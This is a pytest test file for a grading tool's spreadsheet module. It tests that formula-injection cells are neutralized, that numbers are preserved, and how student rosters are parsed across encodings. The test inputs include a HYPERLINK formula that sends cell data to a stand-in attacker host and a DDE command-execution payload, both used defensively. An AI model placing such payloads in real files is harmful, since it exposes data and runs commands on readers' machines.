"""grading/spreadsheet.py: cells a spreadsheet would run as formulas are neutralized, numbers are
not; rosters in the encodings and separators spreadsheets save are read, the rest refused with a
message (no traceback)."""
import csv
import io

import pandas as pd
import pytest

from grading.spreadsheet import (RosterError, UnsafeValue, check_id, csv_text, read_roster,
                                 safe_cell, safe_frame, write_csv)

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click").ipynb'


@pytest.mark.parametrize("text", ["=1+1", "+SUM(A1:A2)", "-2+3", "@SUM(1)", "\t=1", "\r=1",
                                  HYPERLINK, "=cmd|' /C calc'!A0", "-", "+"])
def test_formula_starts_get_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Liddell, Alice", "O'Hara", "a=b", "", "Section A", "3 - 1"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-1.5, -3, 0, 2.5, "-1.5", "+2", "-0.25", "1e-3", "-2E5"])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) == value


def test_csv_text_reads_back_as_text_with_the_quote_and_numbers_as_numbers():
    text = csv_text([["name", "section", "file", "score"],
                     ["=HYPERLINK(\"x\")", "@admin", HYPERLINK, -1.5],
                     ["Bob, \"the\" builder", "-A", "ok.ipynb", "2.5"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'=HYPERLINK(\"x\")", "'@admin", "'" + HYPERLINK, "-1.5"]
    assert rows[2] == ["Bob, \"the\" builder", "'-A", "ok.ipynb", "2.5"]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_frame_like_the_reports_grades_csv_keeps_numbers_and_quotes_file_names(tmp_path):
    grades = pd.DataFrame({"student_id": ["alice", "bob"], "status": ["ok", "error"],
                           "score": [-1.0, 3.5], "files": [HYPERLINK, "schedules.ipynb"],
                           "problems": ["", "+cmd"]})
    out = tmp_path / "grades.csv"
    safe_frame(grades).to_csv(out, index=False)
    rows = list(csv.DictReader(out.open()))
    assert rows[0]["files"] == "'" + HYPERLINK and rows[1]["problems"] == "'+cmd"
    assert rows[0]["score"] == "-1.0" and rows[1]["score"] == "3.5"
    assert grades["files"][0] == HYPERLINK, "the original frame is not changed"


def test_bom_is_written_only_when_asked(tmp_path):
    write_csv(tmp_path / "a.csv", [["name"], ["Zoë"]], bom=True)
    write_csv(tmp_path / "b.csv", [["name"], ["Zoë"]])
    assert (tmp_path / "a.csv").read_bytes() == b"\xef\xbb\xbfname\nZo\xc3\xab\n"
    assert (tmp_path / "b.csv").read_bytes() == b"name\nZo\xc3\xab\n"


@pytest.mark.parametrize("value", ["=1+2", "+33612345678", "-5", "-x", "@alice", "\talice"])
def test_ids_that_would_be_formulas_are_refused(value):
    with pytest.raises(UnsafeValue, match="refused"):
        check_id(value, "email")


def test_ordinary_ids_pass():
    for value in ("alice@example.edu", "1001", "S-1001", "a=b"):
        assert check_id(value, "id") == value


# ------------------------------------------------------------------------------ rosters
ROWS = [("student_id", "name", "section", "email"),
        ("alice", "Liddell, Alice", "Section A", "alice@example.edu"),
        ("zoe", "Zoë Lévêque", "Section B", "zoe@example.edu")]


def roster_bytes(delimiter=",", encoding="utf-8", bom=False):
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerows(ROWS)
    return (("\ufeff" if bom else "") + buf.getvalue()).encode(encoding)


@pytest.mark.parametrize("delimiter,encoding,bom", [
    (",", "utf-8", False), (",", "utf-8", True), (";", "utf-8", True), (",", "cp1252", False),
    (";", "cp1252", False), (",", "latin-1", False), ("\t", "utf-16", False)])
def test_roster_encodings_and_separators_are_read(tmp_path, delimiter, encoding, bom):
    path = tmp_path / "roster.csv"
    path.write_bytes(roster_bytes(delimiter, encoding, bom))
    roster = read_roster(path)
    assert roster.columns == list(ROWS[0])
    assert roster.rows["zoe"]["name"] == "Zoë Lévêque"
    assert roster.rows["alice"]["name"] == "Liddell, Alice"
    assert roster.delimiter == delimiter
    if encoding in ("cp1252", "latin-1"):
        assert roster.notes and "Windows-1252" in roster.notes[0]
    else:
        assert roster.notes == []


def test_excel_sep_line_is_honoured(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_bytes(b"sep=;\r\n" + roster_bytes(";"))
    assert read_roster(path).rows["alice"]["email"] == "alice@example.edu"


@pytest.mark.parametrize("content,message", [
    (b"PK\x03\x04rest of a workbook", "workbook"),
    (b"", "empty"),
    (b"id,email\nalice,alice@example.edu\n", "no column 'student_id'"),
    (b"student_id,email\nalice,a@x\nalice,b@x\n", "listed twice: alice"),
    (b"student_id,name,email\nalice,Liddell, Alice,a@x\n", "line 2: 4 fields, the header has 3"),
    (b"student_id,email\n,\n", "no students"),
    (b"student_id,name\nivan,\x81\x8d\n", "not UTF-8"),
])
def test_unreadable_rosters_are_refused_with_a_message(tmp_path, content, message):
    path = tmp_path / "roster.csv"
    path.write_bytes(content)
    with pytest.raises(RosterError, match=message):
        read_roster(path)


def test_missing_roster_file_is_a_roster_error(tmp_path):
    with pytest.raises(RosterError, match="No such file"):
        read_roster(tmp_path / "nope.csv")
